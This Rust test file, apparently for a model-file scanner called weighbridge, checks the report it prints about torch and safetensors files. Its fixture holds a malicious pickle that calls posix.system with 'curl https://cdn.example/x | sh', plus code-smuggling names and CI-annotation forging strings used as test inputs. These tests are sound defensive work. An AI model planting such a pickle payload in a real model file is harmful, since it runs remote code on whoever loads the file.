//! What loading one file would do, as a page.

use weighbridge::policy::Refusal;
use weighbridge::{
    fact::{
        Anomaly, CallArguments, ContainerKind, ContentFacts, Expression, Fact, Global, GlobalName,
        Hop, ListingLine, Literal, Malformed, Observation, Op, PickleAnomaly, PickleFault, Place,
        SafetensorsAnomaly, SafetensorsFault, Short, Site, TensorFault, Text, Unresolved, Usage,
        deceives,
    },
    report::{self, Style},
    verdict::{GlobalRefusal, Inspection, JudgedGlobal, TorchVerdict},
};

use crate::support::report::{decided, hostile, hostile_text, torch_zip};

fn hop(name: &str) -> Hop {
    Hop::Member {
        name: name.into(),
        copy: 0,
    }
}

/// A text that tries to forge output, behind a name that does.
fn hostile_value() -> Expression {
    let text = Expression::Str(Literal::text(hostile_text().as_bytes(), 1000));
    let name = GlobalName::new(hostile_text(), hostile_text());
    Expression::Container {
        kind: ContainerKind::Tuple,
        items: Box::new([Expression::Global(Global::Named(name)), text]),
        length: Some(2),
    }
}

fn opcode(text: &str, effect: &str) -> ListingLine {
    ListingLine::Opcode {
        text: text.to_owned(),
        effect: effect.to_owned(),
    }
}

fn seen(fact: Fact, hops: &[Hop], at: Place, count: u64) -> Observation {
    Observation {
        fact,
        site: Site {
            hops: hops.to_vec(),
            at,
        },
        count,
        excerpt: None,
    }
}

fn judged(
    module: &str,
    name: &str,
    usages: &[Usage],
    count: u64,
    refusal: Option<GlobalRefusal>,
) -> JudgedGlobal {
    JudgedGlobal {
        global: Global::Named(GlobalName::new(module, name)),
        usages: usages.to_vec(),
        count,
        is_refused: refusal.is_some(),
        allowed_by: match &refusal {
            Some(_) => Vec::new(),
            None => vec![decided(
                "globals/torch.yaml (built in)",
                4,
                "  - torch",
                "torch",
                "",
            )],
        },
        finding: None,
        refusal,
    }
}

fn refused(why: Refusal, danger: Option<&'static str>) -> GlobalRefusal {
    GlobalRefusal {
        why,
        decided_by: None,
        danger,
    }
}

fn page(inspection: &Inspection, style: Style) -> String {
    let mut out = Vec::new();
    report::inspect(inspection, style, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn resnet() -> Inspection {
    let pickle = [Hop::Member {
        name: "archive/data.pkl".into(),
        copy: 0,
    }];
    let at = |offset, op: &str| Place::Opcode {
        offset,
        op: Op::named(op),
    };
    let system = Global::Named(GlobalName::new("posix", "system"));
    let rebuild = Global::Named(GlobalName::new("torch._utils", "_rebuild_tensor_v2"));
    let tuple = |items: Vec<Expression>| Expression::Container {
        kind: ContainerKind::Tuple,
        length: u64::try_from(items.len()).ok(),
        items: items.into(),
    };
    let call = |callee: &Global, arguments: Vec<Expression>| Fact::Call {
        callee: callee.clone(),
        usage: Usage::Call,
        given: Box::new(CallArguments {
            positional: tuple(arguments),
            keywords: None,
        }),
        arguments: Vec::new(),
    };
    let text = |text: &str| {
        let length = u64::try_from(text.len()).unwrap();
        Expression::Str(Literal::text(text.as_bytes(), length))
    };
    let sizes = [64, 3, 7, 7].map(Expression::Int).to_vec();
    let member = |name: &str, size| {
        let name = name.into();
        seen(Fact::Member { name, size }, &[], Place::Whole, 1)
    };
    Inspection {
        is_excluded: false,
        findings: vec![torch_zip()],
        circumstances: weighbridge::fact::Circumstances::default(),
        tensors: Vec::new(),
        path: "models/resnet.pt".into(),
        size: Some(46_830_571),
        policy: "recommended (built in)".to_owned(),
        pin: None,
        facts: ContentFacts {
            observations: vec![
                seen(Fact::Is("torch-zip".into()), &[], Place::Whole, 1),
                member("archive/data.pkl", 1_234),
                member("archive/data/0", 37_632),
                member("archive/version", 2),
                seen(Fact::Is("pickle".into()), &pickle, Place::Whole, 1),
                seen(
                    call(
                        &rebuild,
                        vec![Expression::Persistent, Expression::Int(0), tuple(sizes)],
                    ),
                    &pickle,
                    at(0x5a, "REDUCE"),
                    62,
                ),
                seen(
                    call(&system, vec![text("curl https://cdn.example/x | sh")]),
                    &pickle,
                    at(0x1f, "REDUCE"),
                    1,
                ),
                seen(
                    Fact::PersistentId {
                        id: tuple(vec![text("storage")]),
                        torch_storage: true,
                    },
                    &pickle,
                    at(0x44, "BINPERSID"),
                    62,
                ),
                seen(
                    Fact::StateOnNonInstance {
                        target: Expression::Global(Global::Named(GlobalName::new(
                            "torch.nn",
                            "functional",
                        ))),
                    },
                    &pickle,
                    at(0x90, "BUILD"),
                    1,
                ),
                seen(
                    Anomaly::from(PickleAnomaly::BytesAfterStop {
                        bytes: 31,
                        zeros: false,
                    })
                    .into(),
                    &pickle,
                    Place::Bytes {
                        start: 1_203,
                        end: 1_234,
                    },
                    1,
                ),
                seen(
                    Fact::Unread(Malformed::from(PickleFault::NotAnOpcode { byte: 0xff }).into()),
                    &pickle,
                    Place::Bytes {
                        start: 1_203,
                        end: 1_204,
                    },
                    1,
                ),
            ],
            ..ContentFacts::default()
        },
        globals: vec![
            judged(
                "posix",
                "system",
                &[Usage::Import, Usage::Call],
                1,
                Some(GlobalRefusal {
                    why: Refusal::Unlisted { near: None },
                    decided_by: Some(decided(
                        "weighbridge.yaml",
                        7,
                        "allow: [torch]",
                        "torch",
                        "",
                    )),
                    danger: Some("runs a shell command"),
                }),
            ),
            judged("collections", "OrderedDict", &[Usage::Call], 3, None),
            judged(
                "torch._utils",
                "_rebuild_tensor_v2",
                &[Usage::Import, Usage::Call],
                62,
                None,
            ),
            judged(
                "torch",
                "FloatStorge",
                &[Usage::Import],
                1,
                Some(refused(
                    Refusal::Unlisted {
                        near: Some("torch.FloatStorage".to_owned()),
                    },
                    None,
                )),
            ),
            judged(
                "torch.nn",
                "Module",
                &[Usage::Call],
                1,
                Some(refused(
                    Refusal::Use {
                        allowed: vec![Usage::Construct, Usage::Build],
                    },
                    None,
                )),
            ),
            JudgedGlobal {
                global: Global::Unresolved(Unresolved::Computed),
                usages: vec![Usage::Call],
                count: 2,
                is_refused: true,
                refusal: None,
                finding: None,
                allowed_by: Vec::new(),
            },
        ],
        torch_loads: vec![TorchVerdict {
            place: String::new(),
            loads: false,
            reasons: vec![
                "its unpickler does not list numpy._core.multiarray.scalar and numpy.dtype"
                    .to_owned(),
            ],
            safe_globals: vec![
                GlobalName::new("numpy._core.multiarray", "scalar"),
                GlobalName::new("numpy", "dtype"),
            ],
            ..TorchVerdict::default()
        }],
        disassembly: Some(vec![
            ListingLine::In(Site {
                hops: vec![hop("resnet/data.pkl")],
                at: Place::Whole,
            }),
            opcode("0x0000  PROTO             2", ""),
            opcode(
                "0x0002  GLOBAL            posix system",
                "imports posix.system",
            ),
            opcode(
                "0x0011  BINUNICODE        'curl https://cdn.example/x | sh'",
                "",
            ),
            opcode(
                "0x001f  REDUCE",
                "calls posix.system('curl https://cdn.example/x | sh')",
            ),
            opcode(
                "0x0020  BUILD",
                "sets state on collections.OrderedDict(...)",
            ),
            opcode(
                "0x0021  GLOBAL            numpy._core.multiarray _reconstruct",
                "imports numpy._core.multiarray._reconstruct",
            ),
            ListingLine::Note("... (the listing stops after 4 lines)".to_owned()),
        ]),
    }
}

#[test]
fn a_hostile_torch_zip() {
    insta::assert_snapshot!("inspect", page(&resnet(), Style::default()));
    let ascii = Style {
        unicode: false,
        width: 60,
        ..Style::default()
    };
    insta::assert_snapshot!("inspect_ascii_60_columns", page(&resnet(), ascii));
}

#[test]
fn a_file_of_nothing_but_tensors() {
    let inspection = Inspection {
        path: "model.safetensors".into(),
        size: Some(1 << 40),
        facts: ContentFacts {
            observations: vec![seen(Fact::Is("safetensors".into()), &[], Place::Whole, 1)],
            ..ContentFacts::default()
        },
        ..Inspection::default()
    };
    insta::assert_snapshot!(page(&inspection, Style::default()), @"
    model.safetensors  1.0 TiB
      safetensors

    Loading it imports nothing by name.
    ");
}

/// A thousand harmless calls do not hide the one that matters: they are counted beside their global.
#[test]
fn only_refused_calls_are_shown() {
    let mut inspection = resnet();
    let rebuild = inspection.facts.observations[5].clone();
    inspection
        .facts
        .observations
        .splice(5..5, std::iter::repeat_n(rebuild, 1000));
    let text = page(&inspection, Style::default());
    assert!(text.contains("posix.system('curl"), "{text}");
    assert!(!text.contains("_rebuild_tensor_v2("), "{text}");
    // A call is refused with its global, and when its arguments are not those the policy allows.
    for global in &mut inspection.globals {
        if !global.is_refused {
            global.is_refused = true;
            global.finding = Some("argument 1: not a string".to_owned());
        }
    }
    let text = page(&inspection, Style::default());
    assert!(text.contains("_rebuild_tensor_v2("), "{text}");
    assert!(text.contains("argument 1: not a string"), "{text}");
}

/// A snippet to paste into a program holds identifiers and nothing else.
#[test]
fn a_snippet_cannot_carry_code() {
    for (module, name) in [
        ("os\nimport x", "y"),
        ("a", "b]); evil(["),
        ("", "x"),
        ("a b", "c"),
        ("é", "x"),
    ] {
        let mut inspection = resnet();
        inspection.torch_loads[0].safe_globals = vec![GlobalName::new(module, name)];
        assert!(!page(&inspection, Style::default()).contains("safe_globals(["));
    }
}

#[test]
fn no_name_can_forge_the_page() {
    forge(&hostile());
    forge("::error file=x::forged");
    forge(
        "   ::error::forged and long enough to be wrapped over several lines ::warning::of the page",
    );
}

fn forge(name: &str) {
    let hostile = || name.to_owned();
    let hostile_text = || Text::from(name);
    let mut inspection = resnet();
    inspection.path = hostile_text();
    inspection.policy = hostile();
    inspection.disassembly = Some(vec![
        ListingLine::Note(hostile()),
        ListingLine::In(Site {
            hops: vec![hop(&hostile())],
            at: Place::Whole,
        }),
        opcode(&hostile(), &hostile()),
        opcode(&format!("0x1 {}", hostile()), &hostile()),
    ]);
    for global in &mut inspection.globals {
        global.global = Global::Named(GlobalName::new(hostile_text(), hostile_text()));
        global.finding = Some(hostile());
        for line in &mut global.allowed_by {
            line.file = hostile();
        }
    }
    inspection.torch_loads[0].reasons = vec![hostile()];
    inspection.torch_loads[0].place = hostile();
    for observation in &mut inspection.facts.observations {
        observation.site.hops = vec![Hop::Member {
            name: hostile_text(),
            copy: 0,
        }];
        match &mut observation.fact {
            Fact::Member { name, .. } => *name = hostile_text(),
            Fact::Call { given, .. } => given.positional = hostile_value(),
            Fact::Anomaly(anomaly) => {
                let name = Short::from(hostile().as_str());
                **anomaly = SafetensorsAnomaly::DuplicateTensor { name }.into();
            }
            Fact::StateOnNonInstance { target } => *target = hostile_value(),
            Fact::Unread(unread) => {
                let name = Short::from(hostile().as_str());
                let fault = TensorFault::ShapeOverflow;
                *unread = Malformed::from(SafetensorsFault::Tensor { name, fault }).into();
            }
            _ => {}
        }
    }
    for line in page(&inspection, Style::default()).split('\n') {
        assert_eq!(line.chars().find(|c| deceives(*c)), None, "{line}");
        assert!(
            !line.trim_start().starts_with("::") && !line.contains("##["),
            "{line}"
        );
    }
}
